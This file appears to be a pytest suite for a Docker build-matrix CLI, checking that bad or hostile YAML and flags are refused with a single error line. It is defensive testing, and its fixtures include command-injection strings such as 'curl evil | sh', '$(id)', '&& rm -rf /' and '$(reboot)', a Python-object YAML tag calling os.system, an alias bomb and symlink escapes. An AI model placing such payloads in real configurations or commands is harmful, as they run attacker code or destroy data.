"""The bad-input corpus: each case is one clear line naming the place, exit 2, nothing written."""

from __future__ import annotations

import os
import shutil
import stat
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from imagekit.report.store import write_report
from tests.conftest import CUDA_BASE as BARE_CUDA_BASE
from tests.conftest import REPO, WAIVE_OLD_TORCH, imagekit, run_cli

# The cells here are torch 2.1-2.5, about other things than advisories: theirs are waived.
CUDA_BASE = BARE_CUDA_BASE + WAIVE_OLD_TORCH

GOOD_AXES = 'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1"]\n'

CASES: dict[str, tuple[str, str]] = {
    "yaml syntax": ("axes:\n  torch: [2.1\n", "matrix.yaml:3:1: YAML syntax error"),
    "tab indentation": ("axes:\n\ttorch: [2.1]\n", "matrix.yaml:2:1: YAML syntax error"),
    "top level list": ("- torch\n- cuda\n", "the top level is a list"),
    "top level scalar": ("just a string\n", "the top level is a str"),
    "empty file": ("", "the top level is empty"),
    "unknown top key": (GOOD_AXES + CUDA_BASE + "axis: {}\n", "axis: unknown key; did you mean 'axes'?"),
    "unknown base key": (
        GOOD_AXES + "bases:\n  cuda:\n    imgae: x\n    os: ubuntu22.04\n",
        "matrix.yaml:6:5: bases.cuda.imgae: unknown key; did you mean 'image'?",
    ),
    "unknown include key": (
        GOOD_AXES + CUDA_BASE + "include:\n  - {torhc: 2.2.2}\n",
        "include[0].torhc: unknown key; did you mean 'torch'?",
    ),
    "axis not a list": ('axes:\n  torch: "2.1.2"\n' + CUDA_BASE, "axes.torch: Input should be a valid list"),
    "wrong type bool": (
        GOOD_AXES + CUDA_BASE + "allow_unknown: maybe\n",
        "allow_unknown: Input should be a valid boolean",
    ),
    "empty axis": ("axes:\n  torch: []\n" + CUDA_BASE, "axes.torch: is empty"),
    "duplicate values": (
        'axes:\n  torch: ["2.1.2", 2.1.2]\n' + CUDA_BASE,
        "value '2.1.2' at index 1 is listed twice",
    ),
    "no bases": (GOOD_AXES + "bases: {}\n", "bases: define at least one base"),
    "bad version": ('axes:\n  torch: ["two"]\n' + CUDA_BASE, "axes.torch[0]: 'two' is not a torch version"),
    "python object tag": (
        "axes:\n  torch: !!python/object/apply:os.system ['touch pwned']\n" + CUDA_BASE,
        "matrix.yaml:2:10: YAML tag tag:yaml.org,2002:python/object/apply:os.system is not allowed",
    ),
    "alias bomb": (
        "\n".join(
            ['a: &a ["x","x","x","x","x","x","x","x","x","x"]']
            + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}' if i > 1 else '*a'] * 10)}]" for i in range(1, 8)]
        )
        + "\n",
        "an alias bomb?",
    ),
    "newline in env value": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "x\\nRUN curl evil | sh"}\n',
        "defaults.env.A: 'x\\nRUN curl evil | sh' holds a newline",
    ),
    "quote in label-bound value": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {A: 'a\"b'}\n",
        "holds a quote",
    ),
    "command substitution": (
        GOOD_AXES + CUDA_BASE + 'include:\n  - {pip_packages: ["numpy$(id)"]}\n',
        "include[0].pip_packages[0]: 'numpy$(id)' holds '$('",
    ),
    "backtick": (GOOD_AXES + CUDA_BASE + "include:\n  - {apt_packages: ['git`id`']}\n", "holds a backtick"),
    "space in python": (
        'axes:\n  torch: ["2.1.2"]\n  python: ["3.10 && rm -rf /"]\n' + CUDA_BASE,
        "holds a space",
    ),
    "hostile base image": (
        GOOD_AXES + 'bases:\n  cuda:\n    image: "nvidia/cuda:12.1.1\\nRUN id"\n    os: ubuntu22.04\n',
        "bases.cuda.image:",
    ),
    "hostile tag pattern": (
        GOOD_AXES + CUDA_BASE + 'publish:\n  tags:\n    readable: "a b"\n',
        "publish.tags.readable: 'a b' holds a space",
    ),
    "hostile mirror url": (
        GOOD_AXES + CUDA_BASE + "sources:\n  apt:\n    mirror: 'http://m/$(reboot)'\n",
        "sources.apt.mirror:",
    ),
    "unknown base name": (
        'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1"]\n  base: [nope]\n' + CUDA_BASE,
        "names base 'nope'",
    ),
    "unknown placeholder": (
        GOOD_AXES + 'bases:\n  cuda:\n    image: "nvidia/cuda:{cuda_ful}-devel"\n    os: ubuntu22.04\n',
        "unknown placeholder {cuda_ful}",
    ),
    "unknown stack": ("axes:\n  base: [n]\nbases:\n  n: {stack: ngc-99.99}\n", "unknown stack 'ngc-99.99'"),
    "all refused": (
        'axes:\n  torch: ["2.9.1"]\n  cuda: ["11.8"]\n' + CUDA_BASE,
        "no buildable cell; first refusal: torch=2.9.1, cuda=11.8",
    ),
    "version not 1": ("version: 2\n" + GOOD_AXES + CUDA_BASE, "version: must be 1"),
    "tag collision": (
        'axes:\n  torch: ["2.4.1"]\n  cuda: ["12.1"]\n  python: ["3.10", "3.11"]\n' + CUDA_BASE,
        "would share the tag '2.4.1-cuda12.1-cudnn9-devel-ubuntu22.04'; add {python}",
    ),
    "placeholder attribute access": (
        GOOD_AXES + CUDA_BASE + 'publish:\n  tags:\n    readable: "{torch.__class__}"\n',
        "unknown placeholder {torch.__class__}",
    ),
    "secret-looking build arg": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  build_args: {PIP_TOKEN: abc}\n",
        "defaults.build_args.PIP_TOKEN: build argument 'PIP_TOKEN' looks like a secret",
    ),
    "secret-looking ENV (baked into every layer)": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {HF_TOKEN: abc}\n",
        "defaults.env.HF_TOKEN: environment variable 'HF_TOKEN' looks like a secret",
    ),
    "secret-looking ENV in an include": (
        GOOD_AXES + CUDA_BASE + "include:\n  - {torch: '2.4.1', env: {JUPYTER_TOKEN: x, PIP_PASSWORD: y}}\n",
        "looks like a secret",
    ),
    "secret-looking local base arg": (
        GOOD_AXES
        + BARE_CUDA_BASE
        + "  deb:\n    image: x/y:1\n    os: debian12\n    build: {context: b, args: {API_KEY: k}}\n",
        "looks like a secret",
    ),
    "torch index placeholder": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    torch_index_url: 'https://x/{variant.__class__}'\n",
        "may use only the {variant} placeholder",
    ),
    "no_index without a wheelhouse": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    no_index: true\n",
        "no_index: true installs only from find_links",
    ),
    "cuda_full not a version": (
        GOOD_AXES + CUDA_BASE + "defaults: {cuda_full: cpu}\n",
        "not a full CUDA version",
    ),
    "template syntax error": (
        GOOD_AXES + CUDA_BASE + "templates: .\n",
        "template error",
    ),
    "find_links escapes": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    find_links: [../../etc]\n",
        "must stay inside",
    ),
    # sizes: every string is bounded, a number too, and nesting is refused before it recurses
    "huge env value": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {A: " + "a" * 300_000 + "}\n",
        "defaults.env.A: is 300,000 characters long; plain text has at most 4,096",
    ),
    "huge pip requirement": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  pip_packages: [" + "n" * 5_000 + "]\n",
        "defaults.pip_packages[0]: is 5,000 characters long",
    ),
    "huge apt package": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  apt_packages: [" + "g" * 5_000 + "]\n",
        "defaults.apt_packages[0]: is 5,000 characters long",
    ),
    "huge base image": (
        GOOD_AXES + "bases:\n  cuda:\n    image: " + "a" * 300 + ":1\n    os: ubuntu22.04\n",
        "bases.cuda.image: is 302 characters long; an image reference has at most 255",
    ),
    "registry port past 65535": (
        GOOD_AXES + CUDA_BASE + "publish:\n  registry: 'ghcr.io:99999'\n",
        "publish.registry: 'ghcr.io:99999': port 99999 is past 65535",
    ),
    "registry port of eight digits": (
        GOOD_AXES + CUDA_BASE + "publish:\n  registry: 'ghcr.io:99999999'\n",
        "publish.registry: 'ghcr.io:99999999' is not a registry host[:port]",
    ),
    "5,000-digit torch version": (
        'axes:\n  torch: ["2.1.' + "1" * 5_000 + '"]\n  cuda: ["12.1"]\n' + CUDA_BASE,
        "axes.torch[0]: ",
    ),
    "5,000-digit schema version": ("version: " + "1" * 5_000 + "\n" + GOOD_AXES + CUDA_BASE, "version: "),
    "deep nesting": ("[" * 20_000, "nesting deeper than 64 levels"),
    "deep mapping": ("a:\n" + "".join("  " * i + "b:\n" for i in range(1, 80)), "nesting deeper than 64"),
    "8 million combinations": (
        "axes:\n"
        + "".join(
            f"  {axis}: [{', '.join(repr(f'{prefix}.{i}') for i in range(200))}]\n"
            for axis, prefix in (("torch", "2"), ("cuda", "12"), ("python", "3"))
        )
        + CUDA_BASE,
        "the matrix makes 8,000,000 combinations (200 x 200 x 200); imagekit plans at most 10,000",
    ),
    # secrets: a credential in any URL is refused, and never repeated in the error
    "password in index url": (
        GOOD_AXES
        + CUDA_BASE
        + "sources:\n  pip:\n    index_url: 'https://alice:s3cret@pypi.example.org/s'\n",
        "sources.pip.index_url: 'https://***@pypi.example.org/s' holds credentials",
    ),
    "user in mirror url": (
        GOOD_AXES + CUDA_BASE + "sources:\n  apt:\n    mirror: 'http://alice@deb.example.org/debian'\n",
        "holds credentials (a login before the @ of a URL); imagekit never writes a credential",
    ),
    "password in torch index url": (
        GOOD_AXES
        + CUDA_BASE
        + "sources:\n  pip:\n    torch_index_url: 'https://u:s3cret@x.example/whl/{variant}'\n",
        "fill a wheelhouse on the host",
    ),
    "token in extra index query": (
        GOOD_AXES
        + CUDA_BASE
        + "sources:\n  pip:\n    extra_index_urls: ['https://x.example/s?token=s3cret']\n",
        "query parameter 'token' looks like a credential",
    ),
    "credential url in an env value": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  env: {PIP_INDEX_URL: 'https://u:s3cret@x.example/s'}\n",
        "defaults.env.PIP_INDEX_URL: 'https://***@x.example/s' holds credentials",
    ),
    "credential url in a build argument": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  build_args: {INDEX: 'https://u:s3cret@x.example/s'}\n",
        "holds credentials",
    ),
    "credential url where a choice is expected": (
        GOOD_AXES + CUDA_BASE + "publish:\n  policy: 'https://u:s3cret@x.example/s'\n",
        "publish.policy: Input should be 'gpu-validated', 'checked' or 'built' (got 'https://***@x.example/s')",
    ),
    "password in a registry without a scheme": (
        GOOD_AXES + CUDA_BASE + "publish:\n  registry: 'ci:s3cret@ghcr.io'\n",
        "publish.registry: '***@ghcr.io' is not a registry host[:port]",
    ),
    # invisible and look-alike characters
    "right-to-left override in env": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "abc\\u202edef"}\n',
        "defaults.env.A: 'abc\\u202edef' holds U+202E RIGHT-TO-LEFT OVERRIDE",
    ),
    "zero-width space in env": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "ab\\u200bc"}\n',
        "holds U+200B ZERO WIDTH SPACE",
    ),
    "fullwidth dollar in env": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  env: {A: "\\uff04(id)"}\n',
        "holds U+FF04 FULLWIDTH DOLLAR SIGN",
    ),
    "zero-width joiner in a pip package": (
        GOOD_AXES + CUDA_BASE + 'defaults:\n  pip_packages: ["num\\u200dpy"]\n',
        "holds U+200D ZERO WIDTH JOINER",
    ),
    "bidi control in a tag pattern": (
        GOOD_AXES + CUDA_BASE + 'publish:\n  tags:\n    readable: "{torch}\\u2066x"\n',
        "publish.tags.readable: ",
    ),
    "cyrillic look-alike in a base name": (
        'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1"]\n  base: ["\\u0441uda"]\n' + CUDA_BASE,
        "U+0441 CYRILLIC SMALL LETTER ES",
    ),
    # semantics the table and the plan can decide before anything is built
    "version true": ("version: true\n" + GOOD_AXES + CUDA_BASE, "version: must be 1, not a boolean"),
    "allow_unknown and a missing patch": (
        'allow_unknown: true\naxes:\n  torch: ["2.1.9"]\n  cuda: ["12.1"]\n' + CUDA_BASE,
        "torch 2.1.9 is not a 2.1 release (its patches: 2.1.0, 2.1.1, 2.1.2)",
    ),
    "an unknown CUDA patch": (
        'axes:\n  torch: ["2.1.2"]\n  cuda: ["12.1.9"]\n' + CUDA_BASE,
        "CUDA 12.1.9 is not the toolkit imagekit builds CUDA 12.1 on (nvidia/cuda 12.1.1)",
    ),
    "torch in pip_packages": (
        GOOD_AXES + CUDA_BASE + "defaults:\n  pip_packages: [torch==2.0.0]\n",
        "pip_packages lists torch==2.0.0: torch, torchvision and torchaudio come from the matrix",
    ),
    "an immutable tag two cells share": (
        'axes:\n  torch: ["2.1.2", "2.5.1"]\n  cuda: ["12.1"]\n'
        + CUDA_BASE
        + 'publish:\n  tags:\n    immutable: ["{readable}-{digest}", "nightly-{date}"]\n',
        "publish.tags.immutable[1]: 'nightly-{date}' gives cells cuda-torch2.1.2-cuda12.1-py3.10-devel and"
        " cuda-torch2.5.1-cuda12.1-py3.10-devel (every cell of a run) the same tag ('nightly-20000101')",
    ),
    "a constant immutable tag": (
        'axes:\n  torch: ["2.1.2", "2.5.1"]\n  cuda: ["12.1"]\n'
        + CUDA_BASE
        + 'publish:\n  tags:\n    readable: "{torch}"\n    immutable: ["2.5.1"]\n',
        "'2.5.1' gives cells cuda-torch2.1.2-cuda12.1-py3.10-devel and cuda-torch2.5.1",
    ),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_bad_input_is_one_line_exit_2_and_writes_nothing(
    case: str, write_matrix: Callable[[str], Path], tmp_path: Path
) -> None:
    text, expected = CASES[case]
    path = write_matrix(text)
    (path.parent / "Dockerfile.j2").write_text("FROM {{ cell.base_image }\n")  # used by `templates: .`
    out = tmp_path / "out"
    for args in (("plan", "--matrix", str(path)), ("render", "--matrix", str(path), "--out", str(out))):
        result = run_cli(*args)
        assert result.exit_code == 2, (case, args, result)
        lines = result.stderr.strip().splitlines()
        errors = [line for line in lines if line.startswith("imagekit: error:")]
        assert len(errors) == 1, result.stderr
        assert expected in errors[0], errors[0]
        assert "Traceback" not in result.stderr + result.stdout
        assert "s3cret" not in result.stderr + result.stdout  # a credential is never repeated
        assert len(errors[0]) < 1_000  # a huge value is not repeated either
    assert not out.exists(), "a refused matrix must not write a single file"


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--registry", "ci:s3cret@ghcr.io"),
        ("--mirror", "nvidia/cuda=https://ci:s3cret@mirror.example/cuda"),
        ("--mirror", "nvidia/cuda=ci:s3cret@mirror.example/cuda"),
        ("--label", "https://ci:s3cret@x.example=1"),
    ],
)
def test_a_credential_in_a_flag_is_refused_without_repeating_it(flag: str, value: str) -> None:
    result = run_cli("build", "--matrix", str(REPO / "matrix.yaml"), flag, value)
    assert result.exit_code == 2, result
    assert flag in result.stderr
    assert "s3cret" not in result.stderr + result.stdout


NO_REGISTRY_HOST = ("..", ".", "", "-x", "a/b", "https://ghcr.io", "ghcr .io", "a..b", "host-", ".ghcr.io")


@pytest.mark.parametrize("command", ["publish", "build"])
@pytest.mark.parametrize("value", NO_REGISTRY_HOST)
def test_a_registry_that_is_no_host_is_refused_in_one_line(command: str, value: str, tmp_path: Path) -> None:
    """The registry host type (every command and the matrix's publish.registry share it) names
    a host: dot-separated labels that start and end with a letter or digit, an optional port."""
    args = ("--lock", str(tmp_path / "l.json"), "--dry-run") if command == "publish" else ("--push",)
    matrix = ("--matrix", str(REPO / "matrix.yaml"), "--state-dir", str(tmp_path))
    result = run_cli(command, *matrix, *args, f"--registry={value}")
    assert result.exit_code == 2, (value, result.stdout, result.stderr)
    assert result.stderr.count("imagekit: error: --registry") == 1, result.stderr
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert not (tmp_path / "l.json").exists()


def test_missing_file_and_directory(tmp_path: Path) -> None:
    missing = run_cli("plan", "--matrix", str(tmp_path / "nope.yaml"))
    assert missing.exit_code == 2
    assert "no such file" in missing.stderr


def test_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "m.yaml"
    path.write_bytes(b"axes:\n  torch: [\xff]\n")
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 2
    assert "not UTF-8" in result.stderr


def test_python_tag_never_executes(tmp_path: Path) -> None:
    """The real process, not only the function: the payload must not run."""
    marker = tmp_path / "pwned"
    path = tmp_path / "m.yaml"
    path.write_text(f"axes: !!python/object/apply:os.system ['touch {marker}']\n", encoding="utf-8")
    done = imagekit("plan", "--matrix", str(path), timeout=60)
    assert done.returncode == 2
    assert not marker.exists()
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr


@pytest.mark.parametrize(
    ("args", "line"),
    [
        (("plan", "--no-such-option"), "No such option: --no-such-option; see `imagekit plan --help`"),
        (("build", "--jobs", "0"), "Invalid value for '--jobs' / '-j': "),
        (("k8s", "--gpus", "many"), "Invalid value for '--gpus': "),
        # bounded: a Job's int32 fields, and timeouts that would overflow a socket's
        (("k8s", "--deadline", "99999999999"), "Invalid value for '--deadline': "),
        (("k8s", "--backoff-limit", "3000000000"), "Invalid value for '--backoff-limit': "),
        (("verify", "--verify-timeout", "1e308"), "Invalid value for '--verify-timeout': "),
        (("build", "--timeout", "1e308"), "Invalid value for '--timeout': "),
        (
            ("report", "--state-dir", "/dev/null"),
            "Invalid value for '--state-dir': '/dev/null' exists and is not a",
        ),
        # an empty path is not the current directory: pathlib would make it '.', and files land there
        (("render", "--out", ""), "Invalid value for '--out': is empty"),
        (("render", "--cst", ""), "Invalid value for '--cst': is empty"),
        (("matrix", "--format", "bake", "--context-dir", ""), "Invalid value for '--context-dir': is empty"),
        (("k8s", "--out", ""), "Invalid value for '--out': is empty"),
        (("report", "--state-dir", ""), "Invalid value for '--state-dir': is empty"),
        (("no-such-command",), "No such command 'no-such-command'"),
        (("verify", "--gpus"), "Option '--gpus' requires an argument"),
    ],
)
def test_a_usage_error_is_one_line_exit_2(args: tuple[str, ...], line: str) -> None:
    """Outside a terminal (CI, pipes): one `imagekit: error:` line like every other error, no box."""
    result = run_cli(*args)
    assert result.exit_code == 2
    assert result.stderr.startswith(f"imagekit: error: {line}") and result.stderr.count("\n") == 1, (
        result.stderr
    )
    assert "╭" not in result.stderr and "Usage:" not in result.stderr


@pytest.mark.parametrize("check", [(), ("--check",)], ids=["render", "render --check"])
def test_an_output_that_is_no_directory_is_bad_input_not_drift(check: tuple[str, ...]) -> None:
    # --check said "out of date" (exit 1) for /dev/null: no run could ever make that true
    result = run_cli("render", "--matrix", M, "--out", "/dev/null", *check)
    assert result.exit_code == 2 and "/dev/null: is not a directory" in result.stderr, result.stderr


def test_usage_errors_in_a_real_process_are_one_line() -> None:
    done = imagekit("render", "--bogus", timeout=60)
    assert done.returncode == 2
    assert done.stderr.startswith("imagekit: error: No such option: --bogus")
    assert done.stderr.endswith("; see `python -m imagekit render --help`\n") and done.stderr.count("\n") == 1


def test_exclude_matching_nothing_is_a_warning(write_matrix: Callable[[str], Path]) -> None:
    path = write_matrix(GOOD_AXES + CUDA_BASE + 'exclude:\n  - {torch: "2.4.1"}\n')
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 0
    assert "imagekit: warning: " in result.stderr and "exclude[0] matches no combination" in result.stderr


def test_two_spellings_of_one_release_are_one_cell(write_matrix: Callable[[str], Path]) -> None:
    path = write_matrix('axes:\n  torch: ["2.1", "2.1.2"]\n  cuda: ["12.1"]\n' + CUDA_BASE)
    result = run_cli("plan", "--matrix", str(path))
    assert result.exit_code == 2 and "two axis values make the same cell" in result.stderr


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero", "directory", "over-long name"])
def test_a_matrix_that_is_no_regular_file_is_refused_at_once(kind: str, tmp_path: Path) -> None:
    """The real process, with a timeout: a FIFO must not block and /dev/zero must not fill memory."""
    path = {"fifo": tmp_path / "fifo", "/dev/zero": Path("/dev/zero"), "directory": tmp_path / "d"}.get(
        kind, tmp_path / ("m" * 300)
    )
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    done = imagekit("plan", "--matrix", str(path), timeout=30)
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith("imagekit: error: ") and done.stderr.count("\n") == 1, done.stderr


# -- symbolic links and paths: nothing read from or written to outside what was asked --------------------

LOCAL_BASE = (
    GOOD_AXES.replace('["12.1"]', "[cpu]")
    + (
        "bases:\n  deb:\n    image: example/deb:1\n    os: debian12\n    python: '3.11'\n    cuda: false\n"
        "    build: {context: ctx}\n"
    )
    + WAIVE_OLD_TORCH
)


def _snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def _project(tmp_path: Path, matrix: str) -> tuple[Path, Path]:
    project, outside = tmp_path / "project", tmp_path / "outside"
    project.mkdir()
    (outside / "secret").mkdir(parents=True)
    (outside / "secret" / "Dockerfile").write_text("FROM scratch\n# someone else's file\n")
    (outside / "Dockerfile.j2").write_text("FROM {{ cell.base_image }}\n")
    (project / "matrix.yaml").write_text(matrix)
    return project, outside


CELL = "cuda-torch2.1.2-cuda12.1-py3.10-devel"
V1_STATE = str(REPO / "tests" / "fixtures" / "state" / "v1")


def _link(name: str, to: str = "") -> Callable[[Path, Path], None]:
    """Arrange ``project/name`` as a link to ``outside/to`` (directories on the way made)."""

    def arrange(project: Path, outside: Path) -> None:
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).symlink_to(outside / to)

    return arrange


def _local_context_and(then: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
    def arrange(project: Path, outside: Path) -> None:
        (project / "ctx").mkdir()
        (project / "ctx" / "Dockerfile").write_text("FROM x\n")
        then(project, outside)

    return arrange


def _matrix(*args: str) -> Callable[[Path], list[str]]:
    return lambda project: [
        args[0],
        "--matrix",
        str(project / "matrix.yaml"),
        *(a.format(p=project) for a in args[1:]),
    ]


SYMLINK_CASES: dict[str, tuple[str, Callable[[Path, Path], None], Callable[[Path], list[str]], str]] = {
    "base context linked outside": (
        LOCAL_BASE,
        _link("ctx", "secret"),
        _matrix("plan"),
        "bases.deb.build.context: ",
    ),
    "output linked outside": (
        LOCAL_BASE + "output: gen\n",
        _local_context_and(_link("gen")),
        _matrix("render"),
        "output: ",
    ),
    "templates linked outside": (
        GOOD_AXES + CUDA_BASE + "templates: tpl\n",
        _link("tpl"),
        _matrix("plan"),
        "templates: ",
    ),
    "wheelhouse linked outside": (
        GOOD_AXES + CUDA_BASE + "sources:\n  pip:\n    find_links: [wh]\n",
        _link("wh"),
        _matrix("plan"),
        "sources.pip.find_links[0]: ",
    ),
    "a cell's output directory linked outside": (
        GOOD_AXES + CUDA_BASE,
        _link(f"out/{CELL}"),
        _matrix("render", "--out", "{p}/out"),
        f"out/{CELL} is a symbolic link; imagekit never writes through one",
    ),
    "a cst config linked outside": (
        GOOD_AXES + CUDA_BASE,
        _link(f"cst/{CELL}.yaml", "secret/Dockerfile"),
        _matrix("render", "--out", "{p}/out", "--cst", "{p}/cst"),
        f"cst/{CELL}.yaml is a symbolic link",
    ),
    "a bake context linked outside": (
        GOOD_AXES + CUDA_BASE,
        _link(f"bake/{CELL}"),
        _matrix("matrix", "--format", "bake", "--context-dir", "{p}/bake"),
        f"bake/{CELL} is a symbolic link; imagekit never writes through one",
    ),
    "the state lock linked outside": (
        GOOD_AXES + CUDA_BASE,
        _link("state/lock", "secret/Dockerfile"),
        lambda project: ["merge-reports", "--state-dir", str(project / "state"), V1_STATE],
        "state/lock is a symbolic link",
    ),
    "the report linked outside": (
        GOOD_AXES + CUDA_BASE,
        _link("state/report.json", "secret/Dockerfile"),
        lambda project: ["merge-reports", "--state-dir", str(project / "state"), V1_STATE],
        "report.json: ",  # read through the link: no report, so refused before anything is written
    ),
    "the HTML page linked outside": (
        GOOD_AXES + CUDA_BASE,
        _link("page.html", "secret/Dockerfile"),
        lambda project: ["report", "--state-dir", V1_STATE, "--html", str(project / "page.html")],
        "page.html is a symbolic link",
    ),
}


@pytest.mark.parametrize("case", sorted(SYMLINK_CASES))
def test_links_never_lead_a_read_or_a_write_outside(case: str, tmp_path: Path) -> None:
    matrix, arrange, command, problem = SYMLINK_CASES[case]
    project, outside = _project(tmp_path, matrix)
    arrange(project, outside)
    before = _snapshot(outside)
    result = run_cli(*command(project))
    assert result.exit_code == 2, (result.stdout, result.stderr)
    errors = [line for line in result.stderr.splitlines() if line.startswith("imagekit: error:")]
    assert len(errors) == 1 and problem in errors[0], result.stderr
    assert _snapshot(outside) == before  # nothing written there


@pytest.mark.parametrize(
    "kind", ["a FIFO", "a device", "a directory", "the state's report", "the state's lock"]
)
def test_an_output_flag_never_replaces_what_is_not_a_file_of_its_own(kind: str, tmp_path: Path) -> None:
    # renaming a page over /dev/null (as root) or over the report being rendered destroys them
    state = tmp_path / "state"
    shutil.copytree(V1_STATE, state)
    target = {
        "a FIFO": tmp_path / "fifo",
        "a device": tmp_path / "null",
        "a directory": tmp_path / "dir",
        "the state's report": state / "report.json",
        "the state's lock": state / "lock",
    }[kind]
    if kind == "a FIFO":
        os.mkfifo(target)
    elif kind == "a device":
        os.mknod(target, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # what /dev/null is
    elif kind == "a directory":
        target.mkdir()
    before = {p: os.lstat(p).st_mode for p in (*tmp_path.iterdir(), *state.iterdir())}
    report = (state / "report.json").read_bytes()
    result = run_cli("report", "--state-dir", str(state), "--html", str(target))
    assert result.exit_code == 2, (result.stdout, result.stderr)
    assert result.stderr.startswith("imagekit: error: ") and result.stderr.count("\n") == 1, result.stderr
    assert str(target) in result.stderr
    assert {p: os.lstat(p).st_mode for p in (*tmp_path.iterdir(), *state.iterdir())} == before
    assert (state / "report.json").read_bytes() == report


LONG = "n" * 300


M = str(REPO / "matrix.yaml")


@pytest.mark.parametrize(
    ("flag", "args"),
    [
        ("--matrix", ("render", "--matrix", f"/tmp/{LONG}.yaml")),
        ("--out", ("render", "--matrix", M, "--out", f"/tmp/{LONG}")),
        ("--cst", ("render", "--matrix", M, "--cst", f"/tmp/{LONG}")),
        ("--context-dir", ("matrix", "--matrix", M, "--format", "bake", "--context-dir", f"/tmp/{LONG}")),
        ("--state-dir", ("report", "--state-dir", f"/tmp/{LONG}")),
        ("--html", ("report", "--state-dir", V1_STATE, "--html", f"/tmp/{LONG}/r.html")),
        ("--junit", ("verify", "--junit", f"/tmp/{LONG}.xml", "--matrix", M)),
        ("--lock", ("images", "--lock", f"/tmp/{LONG}.json")),
        ("--metadata-file", ("bake-import", "--metadata-file", f"/tmp/{LONG}.json")),
        ("sources", ("merge-reports", f"/tmp/{LONG}")),
        ("--out", ("render", "--matrix", M, "--out", "/tmp" + "/d" * 3_000)),
    ],
)
def test_an_over_long_path_flag_is_bad_usage_naming_the_flag(flag: str, args: tuple[str, ...]) -> None:
    result = run_cli(*args)
    assert result.exit_code == 2, result
    assert result.stderr.startswith(f"imagekit: error: Invalid value for '{flag}'"), result.stderr
    assert result.stderr.count("\n") == 1 and "longer than" in result.stderr


def test_a_publish_dry_run_only_reads_the_state(tmp_path: Path) -> None:
    # no lock file, no state directory made: a read-only checkout can preview a publication
    state = tmp_path / "state"
    shutil.copytree(V1_STATE, state)
    preview = ("publish", "--matrix", M, "--registry", "127.0.0.1:9", "--dry-run")
    result = run_cli(*preview, "--state-dir", str(state))
    assert result.exit_code == 1 and "would publish 0, refused 29" in result.stderr, result.stderr
    assert [p.name for p in state.iterdir()] == ["report.json"]
    missing = tmp_path / "nothing-here"
    result = run_cli(*preview, "--state-dir", str(missing))
    assert result.exit_code == 2 and "no build report at" in result.stderr, result.stderr
    assert not missing.exists()


@pytest.mark.parametrize("view", [[], ["--markdown"], ["--json"]])
def test_every_report_view_prints_on_an_ascii_only_terminal(tmp_path: Path, view: list[str]) -> None:
    """LANG=C or PYTHONIOENCODING=ascii: a value the terminal cannot show (an edited report's
    right-to-left override, shown as U+FFFD) is escaped, never a UnicodeEncodeError traceback."""
    from tests.unit.report_samples import build_report

    report = build_report()
    failed = replace(report.cells[2], error="bad \u202e value \u00e9")
    write_report(tmp_path, replace(report, cells=(*report.cells[:2], failed, *report.cells[3:])))
    done = imagekit("report", "--state-dir", str(tmp_path), *view, env={"PYTHONIOENCODING": "ascii"})
    assert done.returncode == 1, done.stderr  # the sample holds a failed build
    assert "Traceback" not in done.stderr and "cuda-failed" in done.stdout
